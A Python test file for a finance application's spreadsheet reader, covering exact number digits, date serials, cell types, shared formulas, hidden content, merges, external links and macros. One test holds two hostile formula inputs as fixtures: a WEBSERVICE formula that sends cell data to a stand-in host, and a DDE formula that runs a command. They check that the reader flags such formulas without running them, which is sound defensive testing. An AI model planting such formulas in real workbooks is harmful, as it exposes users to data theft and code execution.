"""What a cell of a workbook becomes: exact digits, days, errors, formulas, what is hidden."""

import zipfile
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest

from ptce_finance.ingest.cells import Cell, CellKind, MergedRange, Sheet
from tests.ingest_reader.raw_xlsx import (
    HEADER,
    codes,
    number_cell,
    raw_xlsx,
    read,
    row,
    sentence,
    shared_strings,
    sheet,
    text_cell,
    workbook,
    workbook_rels,
)

A_SERIAL = "46023"


def cell_of(cell: str, **replaced: str) -> Cell | None:
    """What the reader makes of the cell A2."""
    return read(raw_xlsx(sheet(HEADER + row(2, cell)), **replaced)).sheets[0].cell(2, 1)


def sheet_of(rows: str, **around: str) -> Sheet:
    return read(raw_xlsx(sheet(rows, **around))).sheets[0]


@pytest.mark.parametrize(
    ("stored", "text"),
    [
        ("1234.5600000000001", "1234.5600000000001"),
        ("0.30000000000000004", "0.30000000000000004"),
        ("1E3", "1000"),
        ("-1.5e-3", "-0.0015"),
        ("-0", "0"),
        (".5", "0.5"),
        (" 12 ", "12"),
        ("1e308", "1" + "0" * 308),
    ],
)
def test_a_number_keeps_its_exact_digits(stored: str, text: str) -> None:
    found = cell_of(number_cell("A2", stored))
    assert found == Cell(
        row=2, column=1, kind=CellKind.NUMBER, text=text, number=Decimal(text), format="General"
    )


@pytest.mark.parametrize("stored", ["NaN", "INF", "1e999", "0x10", "1_000", "12,5", "٣"])
def test_what_stands_for_a_number_and_is_none_is_kept_as_its_text(stored: str) -> None:
    found = cell_of(number_cell("A2", stored))
    assert found is not None
    assert (found.kind, found.text, found.number) == (CellKind.TEXT, stored, None)


@pytest.mark.parametrize(
    ("cell", "kind", "text"),
    [
        (number_cell("A2", "1", ' t="b"'), CellKind.BOOLEAN, "TRUE"),
        (number_cell("A2", "0", ' t="b"'), CellKind.BOOLEAN, "FALSE"),
        (number_cell("A2", "#REF!", ' t="e"'), CellKind.ERROR, "#REF!"),
        (number_cell("A2", "#SPILL!", ' t="e"'), CellKind.ERROR, "#SPILL!"),
        (number_cell("A2", "1 234,56", ' t="str"'), CellKind.TEXT, "1 234,56"),
        (number_cell("A2", "2026-01-02T00:00:00", ' t="d"'), CellKind.DATE, "2026-01-02"),
        (number_cell("A2", "demain", ' t="d"'), CellKind.TEXT, "demain"),
    ],
)
def test_each_type_of_cell_has_its_kind(cell: str, kind: CellKind, text: str) -> None:
    found = cell_of(cell)
    assert found is not None
    assert (found.kind, found.text) == (kind, text)


@pytest.mark.parametrize(
    "cell",
    [
        '<c r="A2" s="1"/>',
        '<c r="A2"><v></v></c>',
        number_cell("A2", "", ' t="s"'),
        text_cell("A2", ""),
        text_cell("A2", " \u00a0 "),
        text_cell("A2", "\u200b"),
        '<c r="A2" t="str"><f>IF(B2="","",B2)</f><v></v></c>',
    ],
)
def test_an_empty_cell_is_no_cell(cell: str) -> None:
    assert cell_of(cell) is None


def test_a_shared_text_joins_its_runs_without_the_reading_aloud() -> None:
    strings = shared_strings().replace(
        "</sst>",
        "<si><r><t>Sala</t></r><r><t>ires</t></r><rPh><t>サラ</t></rPh></si></sst>",
    )
    found = cell_of(number_cell("A2", "0", ' t="s"'), strings=strings)
    assert found is not None
    assert found.text == "Salaires"


def test_a_date_is_a_day_with_its_serial() -> None:
    found = cell_of(number_cell("A2", A_SERIAL, ' s="1"'))
    assert found is not None
    assert (found.kind, found.day, found.text) == (CellKind.DATE, date(2026, 1, 1), "2026-01-01")
    assert found.number == Decimal(A_SERIAL)


def test_a_workbook_of_the_1904_calendar_gives_the_same_days() -> None:
    book = workbook("Budget", more='<workbookPr date1904="1"/>')
    found = cell_of(number_cell("A2", "44561.5", ' s="1"'), workbook=book)
    assert found is not None
    assert found.day == date(2026, 1, 1)


@pytest.mark.parametrize("serial", ["60", "-1", "2958466", "0.25", "1e12"])
def test_a_serial_that_is_no_day_stays_a_number(serial: str) -> None:
    found = cell_of(number_cell("A2", serial, ' s="1"'))
    assert found is not None
    assert (found.kind, found.day) == (CellKind.NUMBER, None)


def test_a_serial_without_a_date_format_stays_a_number() -> None:
    found = cell_of(number_cell("A2", A_SERIAL))
    assert found is not None
    assert found.kind is CellKind.NUMBER


@pytest.mark.parametrize(
    ("style", "code"), [("0", "General"), ("2", "0.00%"), ("3", '0.0" k€"'), ("99", "General")]
)
def test_a_cell_has_the_code_of_its_format(style: str, code: str) -> None:
    found = cell_of(number_cell("A2", "1", f' s="{style}"'))
    assert found is not None
    assert found.format == code


@pytest.mark.parametrize("value", ["<v/>", "<v></v>", ""])
def test_a_formula_whose_result_was_not_saved_is_an_error_without_text(value: str) -> None:
    found = cell_of(f'<c r="A2"><f>SUM(B2:B9)</f>{value}</c>')
    assert found is not None
    assert (found.kind, found.text, found.formula) == (CellKind.ERROR, "", "SUM(B2:B9)")


def test_a_copied_formula_is_written_out_for_each_cell() -> None:
    rows = row(
        9,
        '<c r="C9"><f t="shared" ref="C9:E9" si="0">SUM(C2:C8)*$A$1</f><v>1</v></c>',
        '<c r="D9"><f t="shared" si="0"/><v>2</v></c>',
        '<c r="E9"><f t="shared" si="0"/><v>3</v></c>',
    )
    cells = sheet_of(rows).cells
    assert [cell.formula for cell in cells.values()] == [
        "SUM(C2:C8)*$A$1",
        "SUM(D2:D8)*$A$1",
        "SUM(E2:E8)*$A$1",
    ]


def test_invisible_characters_are_removed_and_told_once_with_their_places() -> None:
    rows = row(2, text_cell("A2", "a_x0000_b"), text_cell("B2", "zero\u200bwidth")) + row(
        3, text_cell("A3", "sans rien"), text_cell("C3", "a\nb")
    )
    book = read(raw_xlsx(sheet(rows)))
    (issue,) = book.issues
    assert issue.code == "text-cleaned"
    assert [str(place) for place in issue.places] == ["Budget!A2", "Budget!B2"]
    assert [cell.text for cell in book.sheets[0].cells.values()] == [
        "ab",
        "zerowidth",
        "sans rien",
        "a\nb",
    ]


def test_hidden_rows_columns_and_sheets_are_marked() -> None:
    columns = '<cols><col min="2" max="3" hidden="1"/><col min="5" max="16384" width="0"/></cols>'
    rows = (
        row(1, number_cell("A1", "1"))
        + row(2, number_cell("A2", "2"), more=' hidden="1"')
        + row(3, number_cell("A3", "3"), more=' ht="0"')
        + row(4, more=' hidden="1"')
    )
    names = workbook(
        "Budget",
        "Masquée",
        "Secrète",
        attributes={"Masquée": 'state="hidden"', "Secrète": 'state="veryHidden"'},
    )
    book = read(raw_xlsx(sheet(rows, before=columns), sheet(), sheet(), workbook=names))
    assert [(found.name, found.hidden) for found in book.sheets] == [
        ("Budget", False),
        ("Masquée", True),
        ("Secrète", True),
    ]
    assert book.sheets[0].hidden_rows == frozenset({2, 3})
    assert book.sheets[0].hidden_columns == frozenset({2, 3, *range(5, 513)})
    assert len(book.sheets[0].cells) == 3


def test_merged_areas_are_told_and_an_oversized_one_is_ignored_with_a_word() -> None:
    merges = '<mergeCells><mergeCell ref="B3:C4"/><mergeCell ref="A5:XFD1048576"/></mergeCells>'
    book = read(raw_xlsx(sheet(after=merges)))
    assert book.sheets[0].merges == (
        MergedRange(first_row=3, first_column=2, last_row=4, last_column=3),
    )
    (issue,) = book.issues
    assert (issue.code, issue.severity.value, issue.found) == (
        "merge-too-big",
        "warning",
        "A5:XFD1048576",
    )


def test_a_value_from_another_workbook_is_read_and_told_with_its_name() -> None:
    rels = workbook_rels(
        more='<Relationship Id="x" Type="t/externalLink" Target="externalLinks/link1.xml"/>'
    )
    references = '<externalReferences><externalReference r:id="x"/></externalReferences>'
    book_part = workbook("Budget").replace("</workbook>", f"{references}</workbook>")
    rows = HEADER + row(2, '<c r="B2"><f>[1]Feuil1!$A$1+[2]X!A1</f><v>42</v></c>')
    data = raw_xlsx(sheet(rows), workbook=book_part, rels=rels)
    outside = "file:///\\\\10.0.0.1\\share\\paie.xlsx"
    link = f'<r><Relationship Id="r" Target="{outside}" TargetMode="External"/></r>'
    book = read(
        _with(
            data,
            {
                "xl/externalLinks/link1.xml": "<externalLink/>",
                "xl/externalLinks/_rels/link1.xml.rels": link,
            },
        )
    )
    assert [(issue.code, issue.found, str(issue.place)) for issue in book.issues] == [
        ("external-link", "paie.xlsx", "Budget!B2"),
        ("external-link", "[2]", "Budget!B2"),
    ]
    assert book.sheets[0].cells[2, 2].number == 42
    assert "paie.xlsx" in sentence("fr", book.issues[0], book)


@pytest.mark.parametrize(
    ("formula", "called"),
    [
        ('WEBSERVICE("http://127.0.0.1:9/?d="&amp;C2)', "WEBSERVICE"),
        ("cmd|'/C calc'!A0", "cmd"),
    ],
)
def test_a_formula_that_calls_the_outside_is_told_and_not_run(formula: str, called: str) -> None:
    rows = HEADER + row(2, f'<c r="B2"><f>{formula}</f><v>1</v></c>')
    (issue,) = read(raw_xlsx(sheet(rows))).issues
    assert (issue.code, issue.found, str(issue.place)) == ("formula-remote", called, "Budget!B2")


def test_macros_are_told_and_the_values_read() -> None:
    book = read(_with(raw_xlsx(), {"xl/vbaProject.bin": "x"}), "budget.xlsm")
    assert (book.kind, codes(book)) == ("xlsm", ["file-macros-ignored"])
    assert len(book.sheets[0].cells) == 2


def test_the_declared_dimension_of_a_sheet_is_not_believed() -> None:
    found = sheet_of(HEADER, before='<dimension ref="A1:XFD1048576"/>')
    assert found.filled_rows == (1,)


def _with(data: bytes, more: dict[str, str]) -> bytes:
    stream = BytesIO(data)
    with zipfile.ZipFile(stream, "a") as archive:
        for name, content in more.items():
            archive.writestr(name, content)
    return stream.getvalue()


def test_equal_cells_of_a_column_are_asked_about_once() -> None:
    rows = [
        row(n, text_cell(f"A{n}", "Poste"), number_cell(f"B{n}", "12"), number_cell(f"D{n}", "12"))
        for n in (1, 2, 5)
    ]
    sums = row(6, '<c r="B6"><f>SUM(B1:B5)</f><v>12</v></c>', '<c r="D6"><f>B6</f><v>12</v></c>')
    asked: list[Cell] = []

    def read_once(cell: Cell) -> str:
        asked.append(cell)
        return cell.formula or cell.text

    book = read(raw_xlsx(sheet("".join(rows) + sums)))
    found = book.sheets[0].contents(read_once)
    alike = {1: "Poste", 2: "12", 4: "12"}
    assert found == {1: alike, 2: alike, 5: alike, 6: {2: "SUM(B1:B5)", 4: "B6"}}
    assert [list(cells) for cells in found.values()] == [[1, 2, 4]] * 3 + [[2, 4]]
    assert sorted((cell.column, cell.text) for cell in asked if not cell.formula) == [
        (1, "Poste"), (2, "12"), (4, "12"),
    ]  # fmt: skip
    assert book.sheets[0].contents(read_once, 4) == {1: alike, 2: {1: "Poste"}}
    assert [cell.column for cell in book.sheets[0].top(1)] == [1, 2, 4]
